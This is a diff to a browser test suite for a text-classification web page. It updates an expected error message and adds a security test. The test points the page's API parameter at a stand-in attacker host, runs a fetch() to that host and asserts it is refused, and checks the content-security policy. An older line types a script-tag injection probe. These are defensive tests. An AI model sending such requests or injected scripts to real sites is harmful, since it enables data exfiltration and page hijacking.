@@ -63,7 +63,7 @@ def test_an_error_of_the_api_is_shown_and_can_be_corrected_by_keyboard(page: Pag
     page.goto(page_url)
     page.get_by_label("Text", exact=True).fill("word " * 30_000)
     page.keyboard.press("Enter")
-    expect(page.locator(".problem")).to_contain_text("413: the body is over 131072 bytes; send less at a time")
+    expect(page.locator(".problem")).to_contain_text("413: the body is over 98304 bytes; send less at a time")
     page.keyboard.press("ControlOrMeta+a")
     page.keyboard.type("<script>alert('a very good movie')</script>")
     page.keyboard.press("Enter")
@@ -71,12 +71,20 @@ def test_an_error_of_the_api_is_shown_and_can_be_corrected_by_keyboard(page: Pag
     expect(page.locator(".problem")).to_have_count(0)
 
 
-def test_an_address_without_this_api_says_what_to_look_at(page: Page, page_url: str) -> None:
-    """The gateway's own errors let no page read them; a browser calls that a failed connection."""
-    page.goto(f"{page_url}?api={page_url}/nothing-here")
+def test_a_published_page_asks_its_own_api_whatever_its_address_says(page: Page, page_url: str) -> None:
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.goto(f"{page_url}?api=http://attacker.test/x")
     page.get_by_label("Text", exact=True).fill("a good movie")
     page.get_by_role("button", name="Classify").click()
-    expect(page.locator(".problem")).to_contain_text("Check the API URL")
+    expect(page.locator(".label")).to_be_visible()
+    expect(page.get_by_label("API URL")).not_to_be_editable()
+    assert [url for url in asked if "attacker" in url and not url.startswith(page_url)] == []
+    script = "fetch('http://attacker.test/x').then(() => 'sent', () => 'refused')"
+    assert page.evaluate(script) == "refused"
+    policy = page.locator("meta[http-equiv]").get_attribute("content") or ""
+    endpoint = "/".join(page_url.split("/")[:3])
+    assert f"connect-src {endpoint};" in policy
 
 
 def test_the_curl_command_works_in_a_shell(page: Page, page_url: str) -> None:
